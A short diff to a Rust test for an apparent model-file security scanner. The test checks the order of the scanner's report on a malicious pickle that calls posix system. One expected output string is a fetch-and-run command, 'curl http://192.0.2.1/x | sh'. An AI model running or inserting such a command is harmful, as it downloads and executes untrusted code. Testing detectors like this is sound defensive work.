@@ -55,7 +55,7 @@ fn the_story_is_told_in_order() {
         "where   model.tar",
         "└ ckpt.pt",
         "└ archive/data.pkl, byte 0x28 (opcode 11)",
-        "why     GLOBAL 'posix system'",
+        "why     posix.system: GLOBAL 'posix system'",
         "curl http://192.0.2.1/x | sh",
         "line 3, column 7",
         "9 more places",
@@ -64,7 +64,7 @@ fn the_story_is_told_in_order() {
         " LOW       An unknown class is built",
         "note    low instead of medium",
         " NOT FULLY READ  2 artifacts",
-        "checks  3 rules: 1 failed, 1 passed, 1 not applicable",
+        "checks  3 rules: 1 failed, 1 passed, 1 not run",
         "hidden  1 finding",
         "tool    modelward 0.1.0",
     ];
